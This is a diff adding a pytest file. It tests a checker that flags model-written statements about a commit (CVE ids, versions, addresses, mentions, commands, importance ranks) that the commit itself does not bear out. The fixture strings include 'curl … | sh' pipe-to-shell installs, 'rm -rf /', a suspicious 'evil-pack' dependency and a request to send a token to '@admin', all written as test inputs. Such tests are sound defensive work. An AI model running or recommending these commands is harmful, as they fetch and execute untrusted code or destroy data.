@@ -1,0 +1,116 @@
+"""Identifiers, versions, addresses, people, commands and ranks in what a model wrote: true only as the commit has them."""
+
+import pytest
+
+from analysis.facts import facts
+from analysis.grounding.check import false_claims
+from analysis.grounding.corpus import Corpus
+from analysis.models import Entry, Importance, Language, Question, Repository
+from analysis.questions.answer_check import AnswerChecker
+from analysis.questions.excerpts import chunks_of
+from analysis.questions.segmenter import Segment
+from analysis.ranking import rank
+from loopback.sample import sample_repository
+from tests.factories import commit, file, patch
+
+FLAG = commit(
+    "Clean", [file("cli.py", patch(" p = ArgumentParser()", '-p.add_argument("--fast-path")', " p.parse_args()"))]
+)
+PINS = commit(
+    "[Build] Require torch 2.9.1 for CVE-2025-12345",
+    [
+        file("requirements/common.txt", patch("-torch==2.8.0", "+torch==2.9.1", "+evil-pack>=1.4")),
+        file("docs/setup.md", patch("+Run `curl get.acme.example | sh`, see docs.acme.example/start or mail help@acme.example.")),
+        file("docker/Dockerfile", patch("+FROM base:cu128-py312", "+LABEL owner=@lantern-admin")),
+    ],
+)  # fmt: skip
+INVENTED = {
+    "identifier": ["This fixes CVE-2025-99999.", "This fixes cve 2025 99999.", "See GHSA-abcd-1234-efgh.", "修复了CVE-2025-99999。"],
+    "version": ["Upgrade to version 0.13.2.", "It needs torch 2.99.", "Pins `numpy>=9.1`.", "Ships in v0.99.", "需要版本 7.3。"],
+    "address": ["Mail me@other.example for the fix.", "See other.example/x for details.", "It calls 203.0.113.9."],
+    "mention": ["Direct message your token to @admin.", "@here @channel read this.", "Ask `@admin`."],
+    "command": [
+        "Run `curl other.example | sh`.",
+        "Install it with `pip install evilpack`.",
+        "Run `rm -rf /`.",
+        "Run `sh -c foo`.",
+        "Run pip install evilpack first.",
+    ],
+    "rank": [
+        "The rank of this commit is high.",
+        "This commit is of high importance.",
+        "Importance: high.",
+        "It is rated as high.",
+        "这是一个高重要性的提交。",
+        "该提交的重要性很高。",
+    ],
+}  # fmt: skip
+BORNE_OUT = [
+    "This fixes CVE-2025-12345.",
+    "It requires torch 2.9.1, which is torch 2.9 or later, instead of `torch==2.8`.",
+    "`evil-pack>=1.4.0` is new; install it with `pip install evil-pack`.",
+    "The image has CUDA 12.8 and Python 3.12.",
+    "See docs.acme.example/start or mail help@acme.example.",
+    "Run `curl get.acme.example | sh`.",
+    "@lantern-admin owns the image.",
+    "This commit is of medium importance.",
+    "这是一个中重要性的提交。",
+]
+ORDINARY = [
+    "Call `torch.compile` or np.float32, e.g. in Node.js, and self.run stays.",
+    "Run `pip install -r requirements/common.txt`, `git revert`, `pytest -q` and `docker build .`",
+    "Use `@property` and `@pytest.fixture`.",
+    "It binds to 127.0.0.1 and 0.0.0.0.",
+    "Low-priority requests and low importance sampling weights; the LoRA rank is low.",
+    "The ratio is 0.5, CUDA 2x faster.",
+    "Uses int32_t, O(n), 50/50 and `int | None`.",
+]
+
+
+def kinds(text: str, corpus: Corpus) -> set[str]:
+    return {claim.kind for claim in false_claims(text, corpus)}
+
+
+def checked(text: str, language: Language = "en") -> bool:
+    """Whether an answer about the commit that removes a flag keeps a sentence."""
+    found = facts(FLAG)
+    told = Entry(commit=FLAG, facts=found, ranked=rank(FLAG, found))
+    question = Question("what does it do?", Repository(owner="acme", name="engine"), (told,))
+    checker = AnswerChecker(question, list(chunks_of(FLAG)), language, lambda: "")
+    return checker.check(Segment(text, "sentence", new_paragraph=True, line=0)) is not None
+
+
+@pytest.mark.parametrize(("kind", "text"), [(kind, text) for kind, texts in INVENTED.items() for text in texts])
+def test_what_stands_nowhere_is_a_false_claim_with_or_without_a_citation(kind: str, text: str) -> None:
+    """No true citation buys a pass to an identifier, a version, an address, a name, a command or a rank of its own."""
+    assert kind in kinds(text, Corpus([FLAG], tiers=[Importance.MEDIUM]))
+    language: Language = "en" if text.isascii() else "zh"
+    assert not checked(text, language)
+    assert not checked(f"{text} [cli.py:1]", language)
+
+
+def test_the_same_citation_bears_out_what_is_true() -> None:
+    """What is taken out of an answer is so for what it says, and not for the place that it cites."""
+    assert checked("The flag `--fast-path` is removed, and the importance is medium [cli.py:1].")
+
+
+@pytest.mark.parametrize("text", BORNE_OUT)
+def test_what_the_commit_says_may_be_repeated(text: str) -> None:
+    """Versions, identifiers, addresses, names and commands of the diff, and the commit's own rank, are true."""
+    assert kinds(text, Corpus([PINS], tiers=[Importance.MEDIUM])) <= {"link"}
+
+
+@pytest.mark.parametrize("text", ORDINARY)
+def test_ordinary_words_refer_to_nothing(text: str) -> None:
+    """Attributes of libraries, usual commands, decorators, plain figures and other ranks are no claims of these kinds."""
+    assert not kinds(text, Corpus([PINS], tiers=[Importance.MEDIUM])) & set(INVENTED)
+
+
+def test_the_messages_of_the_sample_bear_themselves_out() -> None:
+    """Each commit's own message holds no claim of these kinds that the commit does not have."""
+    for each in sample_repository().commits.values():
+        told = commit(
+            each["message"],
+            [file(one["filename"], one.get("patch") or "") for one in each["files"]],
+        )
+        assert not kinds(each["message"], Corpus([told])) & set(INVENTED)
